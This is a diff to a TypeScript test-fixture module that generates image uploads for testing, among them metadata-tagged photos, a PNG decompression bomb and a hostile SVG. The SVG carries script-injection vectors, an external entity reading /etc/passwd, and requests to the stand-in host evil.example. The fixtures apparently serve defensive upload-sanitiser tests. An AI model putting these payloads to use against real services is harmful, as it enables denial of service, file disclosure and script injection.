@@ -1,6 +1,6 @@
 /** Files that people upload, and files that attackers do; made here, byte by byte where no tool would. */
-import { crc32, deflateSync } from 'node:zlib';
-import sharp from 'sharp';
+import { constants, crc32, deflateRawSync } from 'node:zlib';
+import sharp, { type Sharp } from 'sharp';
 
 /** A photo-like picture: every pixel differs a little from its neighbours. */
 export function photo(width = 1600, height = 1200) {
@@ -31,6 +31,29 @@ export function phonePhoto(): Promise<Buffer> {
     .toBuffer();
 }
 
+/** A segment of a JPEG, right behind its beginning. */
+export function withSegment(jpegFile: Buffer, marker: number, data: Buffer): Buffer {
+  const length = Buffer.alloc(2);
+  length.writeUInt16BE(data.length + 2);
+  const segment = Buffer.concat([Buffer.from([0xff, marker]), length, data]);
+  return Buffer.concat([jpegFile.subarray(0, 2), segment, jpegFile.subarray(2)]);
+}
+
+/** Red on its left and blue on its right, taken with the phone held upright: seen, red is above. */
+export function taggedPhoto(): Sharp {
+  const [width, height] = [800, 400];
+  const pixels = Buffer.alloc(width * height * 3);
+  for (let at = 0; at < pixels.length; at += 3)
+    pixels.set((at / 3) % width < width / 2 ? [220, 20, 20] : [20, 20, 220], at);
+  return sharp(pixels, { raw: { width, height, channels: 3 } })
+    .withExif({
+      IFD0: { Make: 'Phone', Model: 'Secret model', Orientation: '6' },
+      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '56/1 57/1 0/1', GPSLongitude: '24/1 6/1 0/1' },
+    })
+    .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/">Secret place</x:xmpmeta>')
+    .withMetadata({ orientation: 6 });
+}
+
 function chunk(type: string, data: Buffer): Buffer {
   const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
   const framed = Buffer.alloc(body.length + 8);
@@ -40,18 +63,35 @@ function chunk(type: string, data: Buffer): Buffer {
   return framed;
 }
 
-/** Few bytes that become many: a grey picture of one colour, as large as it says. */
+/** 570 kB that become 588 MB: a black picture in full colour, as large as it says. */
 export function pngBomb(side = 14_000): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(side, 0);
   header.writeUInt32BE(side, 4);
-  header.set([8, 0, 0, 0, 0], 8);
-  const pixels = deflateSync(Buffer.alloc(side * (side + 1)), { level: 9 });
+  header.set([8, 2, 0, 0, 0], 8);
   return Buffer.concat([
     Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
     chunk('IHDR', header),
-    chunk('IDAT', pixels),
+    chunk('IDAT', zeros(side, 3 * side + 1)),
     chunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+/** Rows of nothing, packed without ever being there: the same block again and again, and the sum worked out. */
+function zeros(rows: number, bytesPerRow: number): Buffer {
+  const rowsPerBlock = 100;
+  const block = deflateRawSync(Buffer.alloc(rowsPerBlock * bytesPerRow), {
+    level: 9,
+    finishFlush: constants.Z_SYNC_FLUSH,
+  });
+  const sum = Buffer.alloc(4);
+  sum.writeUInt16BE((rows * bytesPerRow) % 65_521, 0);
+  sum.writeUInt16BE(1, 2);
+  return Buffer.concat([
+    Buffer.from([0x78, 0xda]),
+    ...Array.from({ length: rows / rowsPerBlock }, () => block),
+    Buffer.from([0x03, 0x00]),
+    sum,
   ]);
 }
 
@@ -61,3 +101,19 @@ export const svg = (inner: string, attributes = '') =>
   Buffer.from(
     `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 30"${attributes}>${inner}</svg>`,
   );
+
+/** Everything that a drawing can be made to do: run, load, reach out, or become something else. */
+export const hostileDrawing = Buffer.from(`<?xml version="1.0"?>
+<!DOCTYPE svg [<!ENTITY run "<script>alert(1)</script>"><!ENTITY file SYSTEM "file:///etc/passwd">]>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200" onload="window.hasRun=1">
+  <script>window.hasRun = 1; fetch('https://evil.example/script')</script>
+  <script xlink:href="https://evil.example/script.js"/>
+  <handler xmlns="http://www.w3.org/2001/xml-events">window.hasRun = 1</handler>
+  <style>@import "https://evil.example/import.css"; rect { fill: url(https://evil.example/fill); background: u\\72l(//evil.example/hidden) }</style>
+  <foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/img" onerror="window.hasRun=1"/><iframe src="javascript:window.hasRun=1"></iframe></body></foreignObject>
+  <image href="https://evil.example/image.png" width="9" height="9"/><image xlink:href="//evil.example/image" width="9" height="9"/>
+  <use href="https://evil.example/use.svg#x"/><a href="javascript:window.hasRun=1"><text y="9">&run;&file;</text></a>
+  <a><animate attributeName="href" values="javascript:window.hasRun=1" onbegin="window.hasRun=1"/><text>x</text></a>
+  <set attributeName="onmouseover" to="window.hasRun=1"/>
+  <rect id="shape" width="300" height="200" fill="#2e6650" onclick="window.hasRun=1" style="background:url(https://evil.example/style)"/>
+</svg>`);
